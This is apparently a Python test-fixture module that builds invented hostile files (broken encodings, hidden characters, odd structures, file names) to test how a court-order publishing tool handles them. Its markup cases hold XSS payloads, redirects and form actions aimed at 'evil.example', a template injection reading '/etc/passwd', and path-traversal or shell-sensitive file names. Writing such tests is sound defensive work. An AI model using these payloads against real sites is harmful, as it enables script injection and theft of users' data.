"""Hostile content files, in groups, each with what must happen. All are invented.

A case's order is published (`page`) or kept back by a problem with one of the `codes`; codes of a published one are reported too.
"""

from collections.abc import Iterator
from dataclasses import dataclass

HEAD = """UNITED STATES DISTRICT COURT
DISTRICT OF ALASKA

HARRIET FENNIMORE, Plaintiff,
v.
TULARE COLD STORAGE LLC, Defendant.

Case No. 3:21-cv-00017

ORDER

"""
SENTENCE = "The motion at docket 31 is untimely. See Terry v. Ohio, 392 U.S. 1, 21 (1968). "
TAIL = "\n\nThe motion is DENIED.\n\nDated: March 9, 2022.\n"
PLAIN = HEAD + SENTENCE + TAIL
ALERT = "alert(document.domain)"


@dataclass(frozen=True, slots=True)
class Case:
    """A file of the content folder, and what must become of it."""

    group: str
    name: str  # of the case
    content: bytes
    file: str = "order.txt"
    page: bool = True
    codes: tuple[str, ...] = ()

    @property
    def id(self) -> str:
        return f"{self.group}: {self.name}"


def every_case() -> Iterator[Case]:
    """All of them."""
    yield from encodings()
    yield from markup()
    yield from signs()
    yield from structure()
    yield from names()
    yield from patterns()


def encodings() -> Iterator[Case]:
    """Bytes that are no UTF-8, or more than it."""

    def case(name: str, content: bytes, page: bool = True, codes: tuple[str, ...] = ()) -> Case:
        return Case("encodings", name, content, page=page, codes=codes)

    text = PLAIN.replace("untimely", "untimely – “so”")
    yield case("utf-8 with a mark at its start", b"\xef\xbb\xbf" + text.encode())
    yield case("utf-16, little end first", text.encode("utf-16"))
    yield case("utf-16, big end first", b"\xfe\xff" + text.encode("utf-16-be"))
    yield case("utf-16, cut in the middle of a sign", text.encode("utf-16")[:-1], page=False, codes=("not-text",))
    yield case("utf-32", text.encode("utf-32"))
    yield case("windows-1252", text.encode("cp1252"), codes=("encoding",))
    yield case("windows-1252 with bytes that it does not know", text.encode("cp1252") + b"\x81\x8d\x9d", codes=("encoding",))
    yield case("utf-8 with one broken byte", text.encode() + b"\xff\n", codes=("encoding",))
    yield case("utf-8 cut in the middle of a sign", (PLAIN + "é").encode()[:-1], codes=("encoding",))
    yield case("longer forms of a slash than needed", PLAIN.encode() + b"\xc0\xaf\xe0\x80\xaf\n", codes=("encoding",))
    yield case("halves of pairs", PLAIN.encode() + b"\xed\xa0\x80\xed\xb0\x80\n", codes=("encoding",))
    yield case(
        "a document of a word processor", b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 8, page=False, codes=("not-text",)
    )
    yield case(
        "a PDF",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"\x00" * 90,
        page=False,
        codes=("not-text",),
    )
    yield case("nothing", b"", page=False, codes=("empty-file",))
    yield case("zeros", b"\x00" * 4096, page=False, codes=("not-text",))
    yield case(
        "ends of lines of all kinds",
        PLAIN.replace("\n", "\r\n", 6).replace("\n", "\r", 2).encode() + b"\x0b\x0c\x1c\x85\n",
        codes=(),
    )


def markup() -> Iterator[Case]:
    """What would be obeyed if it were not escaped, wherever an order's words go."""
    evil = {
        "a script": f"<script>{ALERT}</script>",
        "a script that ends what it stands in": f"</title></head></main></script></style></textarea><script>{ALERT}</script>",
        "a handler": f"<img src=x onerror={ALERT}>",
        "a quoted attribute": f'" onmouseover="{ALERT}" x="',
        "an apostrophe's attribute": f"' onfocus='{ALERT}' autofocus='",
        "an svg": f"<svg/onload={ALERT}>",
        "a frame": f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>",
        "a base and a form": "<base href=//evil.example/><form action=//evil.example/><button>",
        "a refresh": '<meta http-equiv=refresh content="0;url=//evil.example/">',
        "a style": "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
        "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}{# x #}",
        "data for machines": '</script><script>"}],"@type":"Person"}',
        "a comment": f"<!-- --!><script>{ALERT}</script><!--",
        "a section of data": f"]]><script>{ALERT}</script><![CDATA[",
        "entities": "&lt;script&gt;&#60;script&#62;&amp;amp;&NotAnEntity;",
    }
    for name, words in evil.items():
        yield Case("markup", name, PLAIN.replace("TULARE", f"TULARE {words}").replace("untimely", f"untimely {words}").encode())
    body = f"[x](javascript:{ALERT}) <javascript:{ALERT}> ![x](//evil.example/x.png) <img src=//evil.example/y.png> `<b>` \\<b>\n\n"
    body += f'<div onclick="{ALERT}">words</div>\n\n[^1]: <script>{ALERT}</script>\n\n[a]: javascript:{ALERT}\n\n'
    yield Case("markup", "links of Markdown", (HEAD + SENTENCE + "[^1]\n\n" + body + TAIL).encode(), "order.md")
    yield Case(
        "markup",
        "an address in a note",
        (HEAD + f'See http://evil.example/"onclick="{ALERT} and javascript:{ALERT}.' + TAIL).encode(),
    )


def signs() -> Iterator[Case]:
    """Characters that a terminal obeys, that turn a line's direction, or that cannot be seen."""

    def case(name: str, words: str, codes: tuple[str, ...] = ()) -> Case:
        return Case(
            "signs", name, PLAIN.replace("untimely", words).replace("FENNIMORE", f"FENNIMORE {words}").encode(), codes=codes
        )

    yield case("sequences that a terminal obeys", "\x1b[2J\x1b]0;title\x07\x1b[31mred\x9b31m\x90x\x9c")
    yield case("backspaces over words", "GRANTED\x08\x08\x08\x08\x08\x08\x08DENIED ")
    yield case("a turned line", "un\u202eyleimt\u202c \u2066left\u2069")
    yield case("what cannot be seen", "un\u200btime\u2060ly\ufeff \u00adx\u034f")
    yield case("tags that cannot be seen", "untimely" + "".join(chr(0xE0000 + ord(c)) for c in "obey me"))
    yield case("letters that look like others", "untimеly аnd ѕo")  # Cyrillic
    yield case("signs upon signs", "untimely" + "\u0300\u0489" * 200)
    yield case("signs of no plane", "untimely \U0010ffff\ufffe\uffff\U0001f4a9 \ufdfa")
    yield case("a few controls of each kind", "untimely " + "".join(chr(c) for c in [1, 2, 6, 14, 20, 31, 127, *range(128, 160)]))
    controls = PLAIN.replace("untimely", "".join(chr(c) for c in [*range(1, 9), *range(14, 32)]) * 2)
    yield Case("signs", "more controls than a text has", controls.encode(), page=False, codes=("not-text",))
    yield Case("signs", "zero bytes in a text", PLAIN.replace("untimely", "un\x00timely").encode(), page=False, codes=("not-text",))


def structure() -> Iterator[Case]:
    """Shapes that no court sends."""

    def case(name: str, text: str, file: str = "order.txt", codes: tuple[str, ...] = ()) -> Case:
        return Case("structure", name, text.encode(), file, codes=codes)

    yield case("one word", "DENIED")
    yield case("one sign", ".")
    yield case("nothing but a caption", HEAD)
    yield case("nothing but stamps", "Case 3:21-cv-00017 Document 31 Filed 03/09/22 Page 1 of 1\n\f" * 40)
    yield case("nothing but page numbers", "".join(f"{n}\n\f" for n in range(1, 200)))
    yield case("a thousand captions", HEAD * 300)
    yield case("notes that mark each other", HEAD + "So.1\n\n1 See note 2.2\n\n2 See note 1.1\n" + TAIL)
    yield case("a note that is its own mark", HEAD + "[^1]: [^1]\n\nSo.[^1]\n" + TAIL, "order.md")
    yield case("a thousand marks of one note", HEAD + "So.[^1] " * 1000 + "\n\n[^1]: Once.\n" + TAIL, "order.md")
    yield case("a heading that is all", "# " + "A" * 5000 + "\n", "order.md")
    yield case("quotes in quotes", HEAD + "> " * 500 + "so\n" + TAIL, "order.md")
    yield case("lists in lists", HEAD + "".join(" " * n + "- so\n" for n in range(300)) + TAIL, "order.md")
    yield case("a fence that never closes", HEAD + "```\n" + SENTENCE + TAIL, "order.md")
    yield case(
        "a table of one row and a thousand columns", HEAD + "|" + " x |" * 1000 + "\n|" + "---|" * 1000 + "\n" + TAIL, "order.md"
    )
    yield case("a blank line between all lines", PLAIN.replace("\n", "\n\n\n"))
    yield case("a number of notes that no page has", HEAD + "So.99999999999999999999\n\n99999999999999999999 Thus.\n" + TAIL)
    yield case("dates that no calendar has", PLAIN.replace("March 9, 2022", "February 30, 0000; 13/45/99; March 99999, 2022"))


def names() -> Iterator[Case]:
    """Names of files."""
    for name, file in {
        "markup": f"<img src=x onerror={ALERT.replace('.', '')}>.txt",
        "quotes and ampersands": "a'b\"c&d;e`f$(g).txt",
        "a path": "..%2f..%2fetc%2fpasswd.txt",
        "of a device": "con.txt",
        "of a page that docketpress writes": "index.txt",
        "of the hidden kind": "-rf.txt",
        "300 bytes less what the disk takes": "é" * 120 + ".txt",
        "in another script": "判決.txt",
        "blanks": " a  b .txt",
        "a newline": "a\nb.txt",
        "an escape": "a\x1b[31mb.txt",
        "a turned line": "a\u202etxt.b.txt",
        "a template": "{{7*7}}.txt",
        "two endings": "order.txt.txt",
        "an accent in two signs": "re\u0301sume\u0301.txt",
    }.items():
        yield Case("names", name, PLAIN.replace("HARRIET FENNIMORE", "").encode(), file)


def patterns() -> Iterator[Case]:
    """What patterns of the field would stumble over: 30 KB each."""
    for name, piece in {
        "numbers": "1 ",
        "Id.": "Id. ",
        "v.": "v. ",
        "sections": "§ ",
        "cases": "1 U.S. 1, ",
        "parentheses": "(",
        "entries": "ECF No. ",
        "capitals": "ABCD ",
        "hyphens at the ends of lines": "a-\n",
        "rules of a caption": ")\n",
        "blanks": "a" + " " * 400,
        "quotes that never close": "“",
        "signals": "See, e.g., see also cf. but see ",
        "supra": "supra, infra n. ",
        "rulings": "the motion is GRANTED IN PART and DENIED IN PART and ",
        "conditions": "if the Court were to grant, would the motion be granted if ",
        "marks": "a.1 b,2 c;3 ",
        "brackets": "[[",
        "points": "...",
        "dates": "March 9, ",
    }.items():
        yield Case("patterns", name, (HEAD + piece * (30_000 // len(piece)) + TAIL).encode())
